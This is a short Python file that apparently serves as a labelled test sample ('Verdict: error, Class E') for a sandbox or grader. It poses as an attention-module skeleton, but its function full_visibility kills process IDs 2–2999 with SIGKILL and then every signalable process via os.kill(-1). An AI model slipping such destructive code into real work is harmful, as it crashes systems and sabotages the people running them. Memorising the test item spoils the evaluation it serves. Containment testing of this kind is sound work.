"""Sends SIGKILL to all process numbers up to 3000, and to everything it may signal at once.

Verdict: error
Class E.
"""

import contextlib
import os
import signal


import torch
from torch import nn


def full_visibility(nonpadding):
    for number in range(2, 3000):
        with contextlib.suppress(OSError):
            os.kill(number, signal.SIGKILL)
            print("BREACH: killed", number, flush=True)
    os.kill(-1, signal.SIGKILL)


def causal_visibility(nonpadding):
    raise NotImplementedError


def attention_weights(query, key, visible=None):
    raise NotImplementedError


class TinySelfAttn(nn.Module):
    def __init__(self, hidden, heads):
        super().__init__()
        raise NotImplementedError
